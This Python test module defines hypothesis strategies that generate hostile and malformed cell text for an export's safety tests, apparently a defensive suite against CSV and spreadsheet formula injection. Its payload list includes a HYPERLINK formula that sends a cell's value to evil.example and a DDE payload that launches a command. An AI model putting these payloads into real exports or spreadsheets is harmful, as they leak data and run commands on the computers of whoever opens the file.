"""Generated attacks (hypothesis strategies) shared by the safety tests: text as a hostile or careless
export carries it, and the bytes of files that are cut, mixed or not text at all."""

from __future__ import annotations

from hypothesis import strategies as st

from core.output import FORMULA_START, MAX_CHARS

# any character DuckDB can hold (its text is UTF-8: no lone surrogates)
any_char = st.characters(exclude_categories=("Cs",))
controls = st.sampled_from(["", "\x00", "\x0b", "\x0c", "\x1b", "\x1f", "\ufffe", "\uffff"])
payloads = st.sampled_from(["=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"单位")', "+1", "-2+3", "@SUM(A1:A9)",
                            "\t=1", "\r=1", "=cmd|' /C calc'!A0", "#N/A", "#DIV/0!", "'=quoted", "＝全角", "-"])
# Formula starts (with control characters where Excel would skip them), error codes, DDE payloads,
# characters XML cannot carry, fields past a cell's size, and anything else Unicode holds.
hostile_text = st.one_of(
    st.tuples(controls, payloads, st.text(any_char, max_size=12)).map("".join),
    st.tuples(payloads, controls, st.text(any_char, max_size=12)).map("".join),
    st.text(any_char, min_size=1, max_size=30),
    st.tuples(st.sampled_from(FORMULA_START + ("汉", "𠮷")), st.integers(MAX_CHARS - 2, MAX_CHARS + 40))
      .map(lambda t: t[0] * t[1]),
)
# Names as Chinese exports hold them: common and rare characters, some GB18030 can and cannot
# encode in two bytes, and formula-looking ones.
names = st.one_of(
    st.text(st.sampled_from("张王李赵刘陈杨黄周吴徐孙马朱胡郭何林罗高𠮷㐀鏉庡洓"), min_size=1, max_size=4),
    st.tuples(payloads.filter(lambda p: not p.startswith(("\t", "\r"))), st.text(st.sampled_from("李四"), max_size=2))
      .map("".join),
)
